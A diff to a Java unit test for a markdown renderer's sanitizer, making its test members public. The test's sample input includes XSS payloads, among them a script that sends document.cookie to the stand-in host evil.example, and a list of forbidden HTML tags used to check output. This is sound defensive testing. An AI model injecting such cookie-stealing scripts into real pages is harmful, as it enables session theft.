@@ -12,10 +12,10 @@ import org.jsoup.nodes.Document;
 import org.jsoup.nodes.Element;
 import org.junit.jupiter.api.Test;
 
-class MarkdownRendererTest {
+public class MarkdownRendererTest {
 
     /** A payload full of the usual tricks: raw tags, event handlers, script URLs in every disguise. */
-    static final String TRICKS = """
+    public static final String TRICKS = """
             # Root cause <script>alert(1)</script>
 
             <script>document.location='https://evil.example/?c='+document.cookie</script>
@@ -42,7 +42,7 @@ class MarkdownRendererTest {
     }
 
     /** Checks the parsed DOM, not the text: escaped tricks may be shown as words, never as elements or attributes. */
-    static void assertSafe(String html) {
+    public static void assertSafe(String html) {
         Document doc = Jsoup.parseBodyFragment(html);
         for (Element e : doc.body().getAllElements()) {
             assertFalse(Set.of("script", "iframe", "svg", "object", "embed", "form", "input", "style", "img", "math", "link",
